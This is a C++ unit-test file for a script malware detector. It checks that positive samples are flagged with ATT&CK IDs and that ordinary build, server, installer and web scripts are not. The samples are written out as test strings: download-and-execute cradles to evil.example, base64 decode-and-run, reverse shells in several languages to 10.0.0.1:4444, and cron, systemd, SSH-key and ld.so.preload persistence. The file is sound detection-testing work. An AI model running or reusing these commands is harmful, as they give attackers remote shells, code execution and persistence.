// Script detector: every behaviour family (download-and-run, decode-and-run, reverse shells,
// persistence, JavaScript exploit heuristics) has positive samples with the expected id and ATT&CK
// ID, and ordinary scripts (build, install, server, web page code) stay clean.
#include <gtest/gtest.h>

#include "collector.h"
#include "scan/detectors/content/script_rules.h"

namespace airlock::scan {
namespace {

using content_test::Collector;
using content_test::MakeObject;
using content_test::RunDetector;

struct Case {
  const char* name;
  const char* text;
  const char* id;
  const char* technique;
};

class ScriptsTest : public ::testing::Test {
 protected:
  Collector Scan(const std::string& name, std::string_view text) {
    return RunDetector(*detector_, MakeObject(name, text));
  }
  std::unique_ptr<Analyzer> detector_ = MakeScriptDetector();
};

TEST_F(ScriptsTest, AllRulesCompile) {
  EXPECT_TRUE(content::BrokenScriptRules().empty()) << content::BrokenScriptRules().front();
  EXPECT_GE(content::ScriptRules().size(), 30u);
}

const Case kPositives[] = {
    {"i.sh", "#!/bin/sh\ncurl -fsSL http://203.0.113.7/x.sh | sudo bash\n", "script.download_exec", "T1105"},
    {"i.sh", "wget -qO- http://evil.example/i | sh", "script.download_exec", "T1059.004"},
    {"i.sh", "bash <(curl -s http://evil.example/p)", "script.download_exec", "T1105"},
    {"d.sh", "cd /tmp; wget http://198.51.100.2/bot -O .b; chmod +x .b; ./.b &\n", "script.download_exec", "T1105"},
    {"d.sh", "curl -o /dev/shm/k http://x/k\nchmod 755 /dev/shm/k\n/dev/shm/k\n", "script.download_exec", "T1105"},
    {"p.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')", "script.download_exec", "T1059.001"},
    {"p.ps1", "Invoke-WebRequest -Uri http://x/a.ps1 -UseBasicParsing | iex", "script.download_exec", "T1105"},
    {"p.ps1", "irm http://x/s | Invoke-Expression", "script.download_exec", "T1059.001"},
    {"v.vbs", "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nSet s = CreateObject(\"ADODB.Stream\")\n"
              "CreateObject(\"WScript.Shell\").Run \"a.exe\"", "script.download_exec", "T1059.005"},
    {"c.bat", "certutil.exe -urlcache -split -f http://x/a.exe %TEMP%\\a.exe", "script.certutil_download", "T1105"},
    {"c.bat", "certutil -decode payload.b64 payload.exe", "script.certutil_decode", "T1140"},
    {"c.cmd", "bitsadmin /transfer job /download /priority high http://x/a.exe C:\\a.exe", "script.bitsadmin", "T1197"},
    {"c.cmd", "mshta http://evil.example/run.hta", "script.proxy_exec", "T1218.005"},
    {"c.cmd", "regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll", "script.proxy_exec", "T1218.005"},
    {"e.sh", "echo Y3VybCBodHRwOi8veC95IHwgc2g= | base64 -d | bash", "script.decode_exec", "T1140"},
    {"e.sh", "echo aWQK | base64 --decode | /bin/sh", "script.decode_exec", "T1059.004"},
    {"e.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "script.decode_exec", "T1059.006"},
    {"e.sh", "python3 -c \"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\"", "script.decode_exec", "T1140"},
    {"e.js", "eval(atob('YWxlcnQoMSk='));", "script.decode_exec", "T1059.007"},
    {"e.ps1", "$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)); Invoke-Expression $s", "script.decode_exec", "T1059.001"},
    {"e.bat", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", "script.encoded_powershell", "T1059.001"},
    {"r.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "script.reverse_shell", "T1059.004"},
    {"r.sh", "nc -e /bin/sh 10.0.0.1 4444", "script.reverse_shell", "T1059.004"},
    {"r.sh", "ncat 10.0.0.1 4444 -e /bin/bash", "script.reverse_shell", "T1059.004"},
    {"r.sh", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", "script.reverse_shell", "T1059.004"},
    {"r.sh", "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr", "script.reverse_shell", "T1059.004"},
    {"r.py", "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
             "s.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0); os.dup2(s.fileno(),1)\n"
             "subprocess.call(['/bin/sh','-i'])", "script.reverse_shell", "T1059.006"},
    {"r.pl", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
             "if(connect(S,sockaddr_in(4444,inet_aton('10.0.0.1')))){open(STDIN,'>&S');"
             "open(STDOUT,'>&S');exec('/bin/sh -i');};", "script.reverse_shell", "T1059"},
    {"r.ps1", "$c=New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);$s=$c.GetStream();"
              "$d=(iex $data 2>&1 | Out-String)", "script.reverse_shell", "T1059.001"},
    {"p.sh", "(crontab -l; echo '*/5 * * * * /tmp/.x') | crontab -", "script.persistence.cron", "T1053.003"},
    {"p.sh", "echo '* * * * * root /tmp/.x' >> /etc/crontab", "script.persistence.cron", "T1053.003"},
    {"p.sh", "echo '@reboot /tmp/.x' > /tmp/c; crontab /tmp/c", "script.persistence.cron", "T1053.003"},
    {"p.sh", "cp x.service /etc/systemd/system/dbus-helper.service && systemctl enable dbus-helper", "script.persistence.systemd", "T1543.002"},
    {"p.sh", "echo '/tmp/.x &' >> ~/.bashrc", "script.persistence.shell_rc", "T1546.004"},
    {"p.sh", "echo ssh-ed25519 AAAAC3Nz attacker >> /root/.ssh/authorized_keys", "script.persistence.ssh_keys", "T1098.004"},
    {"p.sh", "echo /usr/lib/libhide.so > /etc/ld.so.preload", "script.persistence.ld_preload", "T1574.006"},
    {"p.sh", "cp evil.desktop ~/.config/autostart/", "script.persistence.autostart", "T1547.013"},
    {"p.sh", "sed -i 's|^exit 0|/tmp/.x \\&\\nexit 0|' /etc/rc.local", "script.persistence.rc_local", "T1037.004"},
    {"script.js", "var p = unescape('%u0c0c%u0c0c'); while (p.length < 0x40000) p += p;", "js.heap_spray", "T1203"},
    {"script.js", "util.printf('%45000.45000f', 0);", "js.exploit_api", "T1203"},
    {"script.js", "if (app.viewerVersion < 9) Collab.getIcon(a + '_N.bundle');", "js.exploit_api", "T1203"},
    {"script.js", "this.getAnnots({nPage: 0});", "js.exploit_api", "T1203"},
    {"script.js", "eval(unescape('%61%6c%65%72%74%28%31%29'));", "js.eval_unescape", "T1027"},
    {"script.js", "var s = String.fromCharCode(118,97,114,32,120,61,49,59,97,108,101,114,116,40,120,41,59);", "js.charcode_chain", "T1027"},
};

TEST_F(ScriptsTest, Positives) {
  for (const Case& c : kPositives) {
    Collector out = Scan(c.name, c.text);
    ASSERT_TRUE(out.Has(c.id)) << c.text << "\n  got: " << out.Ids();
    EXPECT_TRUE(out.HasTechnique(c.id, c.technique)) << c.id << " for " << c.text;
    EXPECT_GE(out.Find(c.id)->severity, 5) << c.text;
    EXPECT_FALSE(out.Find(c.id)->evidence.empty());
  }
}

TEST_F(ScriptsTest, EachIdReportedOnce) {
  Collector out = Scan("r.sh", "bash -i >& /dev/tcp/10.0.0.1/1 0>&1\nnc -e /bin/sh 10.0.0.1 2\n");
  int n = 0;
  for (const auto& f : out.findings) n += f.id == "script.reverse_shell";
  EXPECT_EQ(n, 1);
  EXPECT_FALSE(out.Has("script.dev_tcp")) << "the weaker /dev/tcp note is implied by the reverse shell";
}

constexpr const char* kBuildScript = R"txt(#!/usr/bin/env bash
# Build and test the project, then install into a staging prefix.
set -euo pipefail
here="$(cd "$(dirname "$0")" && pwd)"
build="${here}/build"
mkdir -p "$build"
cmake -S "$here" -B "$build" -DCMAKE_BUILD_TYPE=Release
cmake --build "$build" -j"$(nproc)"
ctest --test-dir "$build" --output-on-failure
install -m 0755 "$build/tool" "$DESTDIR/usr/bin/tool"
chmod +x "$here/scripts/post-install.sh"
"$here/scripts/post-install.sh" --prefix /usr
echo "base64 of version: $(echo 1.0 | base64)"
crontab -l > /dev/null 2>&1 || true
echo "Removing crontab ..."
# To enable completion: echo 'source <(tool completion bash)' >> ~/.bashrc
# Debug a box with: bash -i >& /dev/tcp/127.0.0.1/9000 0>&1
mv ~/.ssh/authorized_keys /mnt/backup/authorized_keys
cat ~/.bashrc | grep -q PATH || echo "note: add $build to PATH"
curl --version > /dev/null
tar -czf "$build/tool.tar.gz" -C "$build" tool
)txt";

constexpr const char* kServer = R"txt(import socket
import subprocess

def serve(port):
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.bind(("127.0.0.1", port))
    srv.listen()
    conn, _ = srv.accept()
    out = subprocess.run(["uptime"], capture_output=True).stdout
    conn.sendall(out)
)txt";

constexpr const char* kInstallerPs1 = R"txt(param([string]$Version = "1.2.3")
$ErrorActionPreference = "Stop"
$url = "https://downloads.example.org/tool-$Version.zip"
Invoke-WebRequest -Uri $url -OutFile "$env:TEMP\tool.zip"
Expand-Archive "$env:TEMP\tool.zip" -DestinationPath "$env:ProgramFiles\Tool"
Write-Host "installed $Version"
)txt";

constexpr const char* kWebJs = R"txt(document.addEventListener('DOMContentLoaded', () => {
  const label = String.fromCharCode(9733) + ' rated';
  const data = JSON.parse(document.getElementById('cfg').textContent);
  fetch('/api/items').then(r => r.json()).then(items => render(items, label, data));
});
)txt";

TEST_F(ScriptsTest, OrdinaryScriptsAreClean) {
  for (auto [name, text] : {std::pair{"build.sh", kBuildScript}, std::pair{"server.py", kServer},
                            std::pair{"install.ps1", kInstallerPs1}, std::pair{"app.js", kWebJs}}) {
    Collector out = Scan(name, text);
    EXPECT_TRUE(out.findings.empty()) << name << ": " << out.Ids();
  }
}

TEST_F(ScriptsTest, PortCheckIsNotAReverseShell) {
  Collector out = Scan("wait.sh", "until exec 3<>/dev/tcp/localhost/8080; do sleep 1; done\n");
  EXPECT_FALSE(out.Has("script.reverse_shell")) << out.Ids();
  ASSERT_TRUE(out.Has("script.dev_tcp"));
  EXPECT_LT(out.Find("script.dev_tcp")->severity, 5);
}

TEST_F(ScriptsTest, AcceptsScriptsByNameMagicAndMime) {
  EXPECT_TRUE(detector_->Accepts(MakeObject("x.ps1", "")));
  EXPECT_TRUE(detector_->Accepts(MakeObject("noext", "#!/bin/sh\n")));
  EXPECT_TRUE(detector_->Accepts(MakeObject("noext", "x", "text/x-shellscript")));
  EXPECT_FALSE(detector_->Accepts(MakeObject("notes.txt", "curl x | sh", "text/plain")));
}

TEST_F(ScriptsTest, HugeAndBinaryInputIsBounded) {
  std::string big(9u << 20, 'a');
  big += "\nnc -e /bin/sh 10.0.0.1 1\n";  // beyond the scan window: not seen
  EXPECT_FALSE(Scan("big.sh", big).Has("script.reverse_shell"));
  std::string bin = content_test::RandomBytes(1 << 20);
  EXPECT_NO_THROW(Scan("rand.sh", bin));
}

}  // namespace
}  // namespace airlock::scan
